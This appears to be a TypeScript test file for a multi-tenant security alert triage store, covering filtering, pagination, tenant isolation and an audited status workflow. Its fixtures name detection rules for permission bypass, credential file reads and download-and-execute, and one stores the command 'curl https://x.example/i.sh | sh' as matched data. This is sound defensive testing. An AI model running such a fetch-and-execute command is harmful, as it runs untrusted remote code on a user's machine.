import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { InvalidCursorError } from "@/lib/db/sql";
import { createUser } from "@/lib/auth/users";
import { getPool } from "@/lib/db/pool";
import { insertTestAlert } from "@/lib/testing/alerts";
import { startTestDatabase, type TestDatabase } from "@/lib/testing/database";
import { createTestTenant, type TestTenant } from "@/lib/testing/tenants";
import {
  AlertInputError, AlertNotFoundError, AlertStateError, alertHistory, alertNotes, alertQueueCounts, countAlertsBySeverity, groupAlerts, listAlerts,
  openAlertsBySeverity, parseStatusParam, updateAlert,
} from "./alerts";

// The triage store on a real database: queue order and filters, keyset pages that neither skip
// nor repeat (also across sub-millisecond ties), tenant isolation, the status workflow and its
// audit trail written in the same transaction as the change.

let db: TestDatabase;
let tenant: TestTenant;
let other: TestTenant;
const T0 = Date.parse("2026-11-30T10:00:00Z");
const at = (minutes: number) => new Date(T0 + minutes * 60_000);

const RULE_BYPASS = "0d1b7e59-8a3b-4a39-9f11-2c7f1f3a0a01";
const RULE_CURL = "0d1b7e59-8a3b-4a39-9f11-2c7f1f3a0a02";
const RULE_SECRET = "0d1b7e59-8a3b-4a39-9f11-2c7f1f3a0a03";
const ids: Record<string, string> = {};

async function auditRows(target: string) {
  const r = await getPool().query<{ action: string; actor: string; details: Record<string, unknown> | null }>(
    `SELECT action, actor, details FROM audit_log WHERE target = $1 ORDER BY id`, [target]);
  return r.rows;
}

beforeAll(async () => {
  db = await startTestDatabase();
  tenant = await createTestTenant("alerts");
  other = await createTestTenant("alerts-other");
  await createUser({ tenantId: tenant.tenantId, email: "ana@example.com", role: "analyst", actor: "test" });
  await createUser({ tenantId: tenant.tenantId, email: "max@example.com", role: "manager", actor: "test" });
  await createUser({ tenantId: other.tenantId, email: "eve@example.com", role: "analyst", actor: "test" });
  const ev = (id: string, minutes: number) => ({ kind: "event" as const, id, time: at(minutes), sessionId: "s1", promptId: "p1", name: "tool_decision" });
  ids.bypassOld = await insertTestAlert(tenant.tenantId, { ruleId: RULE_BYPASS, ruleTitle: "Bypass permissions", level: "high", person: "dev@example.com", firstSeen: at(0), matched: { to_mode: "bypassPermissions" }, evidence: [ev("e1", 0)] });
  ids.bypassNew = await insertTestAlert(tenant.tenantId, { ruleId: RULE_BYPASS, ruleTitle: "Bypass permissions", level: "high", person: "ops@example.com", firstSeen: at(30), lastSeen: at(40), hits: 3 });
  ids.curl = await insertTestAlert(tenant.tenantId, { ruleId: RULE_CURL, ruleTitle: "Download and execute", level: "critical", person: "dev@example.com", firstSeen: at(5), matched: { command: "curl https://x.example/i.sh | sh" } });
  ids.secret = await insertTestAlert(tenant.tenantId, { ruleId: RULE_SECRET, ruleTitle: "Credential file read", level: "medium", person: "dev@example.com", service: "cowork", firstSeen: at(50), status: "closed" });
  ids.low = await insertTestAlert(tenant.tenantId, { ruleId: RULE_SECRET, ruleTitle: "Credential file read", level: "low", person: null, firstSeen: at(60) });
  ids.theirs = await insertTestAlert(other.tenantId, { ruleId: RULE_CURL, ruleTitle: "Download and execute", level: "critical", person: "x@example.com", firstSeen: at(1) });
});
afterAll(async () => db?.stop());

describe("listAlerts", () => {
  it("puts the most severe first, then the most recent hit, and stays inside the tenant", async () => {
    const page = await listAlerts(tenant.tenantId, {}, { canReadContent: true });
    expect(page.alerts.map((a) => a.id)).toEqual([ids.curl, ids.bypassNew, ids.bypassOld, ids.secret, ids.low]);
    expect(page.nextCursor).toBeNull();
    expect(page.alerts[2]).toMatchObject({ rule: { id: RULE_BYPASS, level: "high" }, matched: { to_mode: "bypassPermissions" }, evidence: [{ kind: "event", id: "e1", promptId: "p1" }] });
    expect(page.alerts[1]).toMatchObject({ hits: 3, firstSeen: at(30).toISOString(), lastSeen: at(40).toISOString() });
  });

  it("hides the matched values from readers without content", async () => {
    const page = await listAlerts(tenant.tenantId, { rule: RULE_CURL }, { canReadContent: false });
    expect(page.alerts).toHaveLength(1);
    expect(page.alerts[0].matched).toBeNull();
    expect(JSON.stringify(page)).not.toContain("curl https");
  });

  it("filters by status, severity, rule, person, service and time", async () => {
    const list = async (f: Parameters<typeof listAlerts>[1]) => (await listAlerts(tenant.tenantId, f, { canReadContent: true })).alerts.map((a) => a.id);
    expect(await list({ status: ["closed"] })).toEqual([ids.secret]);
    expect(await list({ status: parseStatusParam("open") })).toEqual([ids.curl, ids.bypassNew, ids.bypassOld, ids.low]);
    expect(await list({ severity: ["high", "critical"] })).toEqual([ids.curl, ids.bypassNew, ids.bypassOld]);
    expect(await list({ rule: RULE_BYPASS })).toEqual([ids.bypassNew, ids.bypassOld]);
    expect(await list({ person: "dev@example.com" })).toEqual([ids.curl, ids.bypassOld, ids.secret]);
    expect(await list({ service: ["cowork"] })).toEqual([ids.secret]);
    // Active in [0:35, 0:45): bypassNew ran 0:30–0:40; the others ended before or began after.
    expect(await list({ from: at(35), to: at(45) })).toEqual([ids.bypassNew]);
  });

  it("pages with a keyset cursor that neither skips nor repeats, also on sub-millisecond ties", async () => {
    const t = await createTestTenant("alerts-paging");
    const base = new Date("2026-11-30T12:00:00Z");
    const want: string[] = [];
    for (let i = 0; i < 7; i++) want.push(await insertTestAlert(t.tenantId, { ruleId: RULE_BYPASS, ruleTitle: "x", level: "high", firstSeen: base }));
    // Two alerts 1 µs apart: a cursor that kept milliseconds only would lose one of them.
    await getPool().query(`UPDATE alerts SET last_seen = last_seen + interval '1 microsecond' WHERE tenant_id = $1 AND id = $2`, [t.tenantId, want[0]]);
    const seen: string[] = [];
    let cursor: string | undefined;
    for (let pages = 0; pages < 10; pages++) {
      const page = await listAlerts(t.tenantId, {}, { canReadContent: true, cursor, limit: 2 });
      seen.push(...page.alerts.map((a) => a.id));
      if (!page.nextCursor) break;
      cursor = page.nextCursor;
    }
    expect(seen).toHaveLength(7);
    expect(new Set(seen)).toEqual(new Set(want));
    expect(seen[0]).toBe(want[0]);
  });

  it("refuses a cursor it did not issue", async () => {
    for (const cursor of ["garbage", Buffer.from(JSON.stringify([9, 1, "x"])).toString("base64url"), Buffer.from("[1,2]").toString("base64url")]) {
      await expect(listAlerts(tenant.tenantId, {}, { canReadContent: true, cursor })).rejects.toBeInstanceOf(InvalidCursorError);
    }
  });

  it("groups by rule and by person, and counts open alerts per severity", async () => {
    const byRule = await groupAlerts(tenant.tenantId, {}, "rule");
    expect(byRule.map((g) => [g.key, g.alerts, g.open, g.level])).toEqual([
      [RULE_CURL, 1, 1, "critical"], [RULE_BYPASS, 2, 2, "high"], [RULE_SECRET, 2, 1, "medium"],
    ]);
    expect(byRule[1].hits).toBe(4);
    const byPerson = await groupAlerts(tenant.tenantId, {}, "person");
    expect(byPerson.map((g) => g.key)).toEqual(["dev@example.com", "ops@example.com", null]);
    expect(await openAlertsBySeverity(tenant.tenantId)).toEqual({ critical: 1, high: 2, medium: 0, low: 1, informational: 0 });
    expect(await countAlertsBySeverity(tenant.tenantId, { person: "dev@example.com" })).toEqual({ critical: 1, high: 1, medium: 1, low: 0, informational: 0 });
  });
});

describe("alertQueueCounts", () => {
  it("gives the window's rule groups and every severity's count under the other filters, as the separate queries do", async () => {
    const windows = [{}, { from: at(35), to: at(45) }, { from: at(20) }, { from: at(-600), to: at(600) }];
    const filters = [{}, { status: parseStatusParam("open") }, { person: "dev@example.com", severity: ["critical" as const] }, { rule: RULE_SECRET, status: ["closed" as const] }, { service: ["cowork" as const] }];
    for (const w of windows) {
      for (const f of filters) {
        const counts = await alertQueueCounts(tenant.tenantId, w, { ...w, ...f });
        expect(counts.rules).toEqual(await groupAlerts(tenant.tenantId, w, "rule"));
        expect(counts.bySeverity).toEqual(await countAlertsBySeverity(tenant.tenantId, { ...w, ...f, severity: undefined }));
      }
    }
    const all = await alertQueueCounts(tenant.tenantId, {}, { status: parseStatusParam("open") });
    expect(all.rules.map((g) => [g.key, g.label, g.alerts, g.open, g.hits, g.level])).toEqual([
      [RULE_CURL, "Download and execute", 1, 1, 1, "critical"], [RULE_BYPASS, "Bypass permissions", 2, 2, 4, "high"], [RULE_SECRET, "Credential file read", 2, 1, 2, "medium"],
    ]);
    expect(all.bySeverity).toEqual({ critical: 1, high: 2, medium: 0, low: 1, informational: 0 });
  });
});

describe("updateAlert", () => {
  it("walks new → acknowledged → closed, needs a resolution to close, and audits each change", async () => {
    const id = ids.bypassOld;
    expect(await updateAlert(tenant.tenantId, "ana@example.com", id, { status: "acknowledged", assignee: "ANA@example.com" })).toEqual({ changed: ["status", "assignee"], noteId: null });
    await expect(updateAlert(tenant.tenantId, "ana@example.com", id, { status: "closed" })).rejects.toThrow(AlertInputError);
    await expect(updateAlert(tenant.tenantId, "ana@example.com", id, { resolution: "benign" })).rejects.toThrow(/only when closing/);
    await expect(updateAlert(tenant.tenantId, "ana@example.com", id, { status: "new" })).rejects.toThrow(AlertStateError);
    const closed = await updateAlert(tenant.tenantId, "ana@example.com", id, { status: "closed", resolution: "false_positive", note: "Sandbox test box: ~/.ssh is a fixture." });
    expect(closed.changed).toEqual(["status", "resolution", "note"]);

    const row = (await listAlerts(tenant.tenantId, { rule: RULE_BYPASS, status: ["closed"] }, { canReadContent: true })).alerts[0];
    expect(row).toMatchObject({ id, status: "closed", resolution: "false_positive", assignee: "ana@example.com" });
    expect(Date.parse(row.updatedAt)).toBeGreaterThanOrEqual(Date.parse(row.createdAt));

    // Reopening makes it acknowledged again and clears the resolution.
    expect((await updateAlert(tenant.tenantId, "ana@example.com", id, { status: "acknowledged" })).changed).toEqual(["status", "resolution"]);

    const audit = await auditRows(id);
    expect(audit.map((a) => [a.action, a.details])).toEqual([
      ["alert.status", { from: "new", to: "acknowledged" }],
      ["alert.assign", { assignee: "ana@example.com" }],
      ["alert.status", { from: "acknowledged", to: "closed", resolution: "false_positive" }],
      ["alert.note", { note: closed.noteId, chars: 38 }],
      ["alert.status", { from: "closed", to: "acknowledged" }],
    ]);
    expect(audit.every((a) => a.actor === "ana@example.com")).toBe(true);
    // The note's text is in alert_notes, never in the audit log; managers get its author only.
    expect(JSON.stringify(audit)).not.toContain("fixture");
    expect(await alertNotes(tenant.tenantId, id, true)).toMatchObject([{ author: "ana@example.com", body: "Sandbox test box: ~/.ssh is a fixture." }]);
    expect(await alertNotes(tenant.tenantId, id, false)).toMatchObject([{ author: "ana@example.com", body: null }]);
    expect((await alertHistory(tenant.tenantId, id)).map((h) => h.action)).toEqual(["alert.status", "alert.assign", "alert.status", "alert.note", "alert.status"]);
  });

  it("closes a new alert directly, and corrects the resolution of a closed one", async () => {
    expect((await updateAlert(tenant.tenantId, "ana@example.com", ids.low, { status: "closed", resolution: "benign" })).changed).toEqual(["status", "resolution"]);
    expect((await updateAlert(tenant.tenantId, "ana@example.com", ids.low, { resolution: "true_positive" })).changed).toEqual(["resolution"]);
    // Asking for the state it already has changes nothing and writes no audit row.
    expect((await updateAlert(tenant.tenantId, "ana@example.com", ids.low, { status: "closed" })).changed).toEqual([]);
    expect((await auditRows(ids.low)).map((a) => a.details)).toEqual([
      { from: "new", to: "closed", resolution: "benign" }, { from: "closed", to: "closed", resolution: "true_positive" },
    ]);
  });

  it("refuses what does not fit, leaving the alert and the audit log untouched", async () => {
    const id = ids.curl;
    const cases: [Parameters<typeof updateAlert>[3], RegExp][] = [
      [{}, /nothing to change/],
      [{ status: "open" } as never, /status/],
      [{ note: "   " }, /note is empty/],
      [{ status: "acknowledged", extra: 1 } as never, /extra/],
      // Managers read alerts; only analysts and admins are assigned.
      [{ status: "acknowledged", assignee: "max@example.com" }, /not an active analyst or admin/],
      [{ assignee: "eve@example.com" }, /not an active analyst or admin/],
    ];
    for (const [input, message] of cases) await expect(updateAlert(tenant.tenantId, "ana@example.com", id, input)).rejects.toThrow(message);
    const alert = (await listAlerts(tenant.tenantId, { rule: RULE_CURL }, { canReadContent: true })).alerts[0];
    expect(alert).toMatchObject({ status: "new", assignee: null });
    expect(await auditRows(id)).toEqual([]);
  });

  it("applies one of several simultaneous changes of the same alert, and audits only that one", async () => {
    const id = await insertTestAlert(tenant.tenantId, { ruleId: RULE_CURL, ruleTitle: "Download and execute", level: "critical", firstSeen: at(70) });
    const results = await Promise.allSettled(
      Array.from({ length: 6 }, (_, i) => updateAlert(tenant.tenantId, `analyst${i}@example.com`, id, i % 2 ? { status: "acknowledged" } : { status: "closed", resolution: "benign" })),
    );
    // Whatever order the row lock gave them, each later request saw the state the earlier one left.
    const audit = await auditRows(id);
    let state = "new";
    for (const row of audit) {
      expect(row.details?.from).toBe(state);
      state = String(row.details?.to);
    }
    expect(results.filter((r) => r.status === "fulfilled" && r.value.changed.length > 0)).toHaveLength(audit.length);
  });

  it("does not find another tenant's alert or a malformed id", async () => {
    await expect(updateAlert(tenant.tenantId, "ana@example.com", ids.theirs, { status: "acknowledged" })).rejects.toBeInstanceOf(AlertNotFoundError);
    await expect(updateAlert(tenant.tenantId, "ana@example.com", "not-a-uuid", { status: "acknowledged" })).rejects.toBeInstanceOf(AlertNotFoundError);
    expect((await listAlerts(other.tenantId, {}, { canReadContent: true })).alerts[0]).toMatchObject({ id: ids.theirs, status: "new" });
  });
});
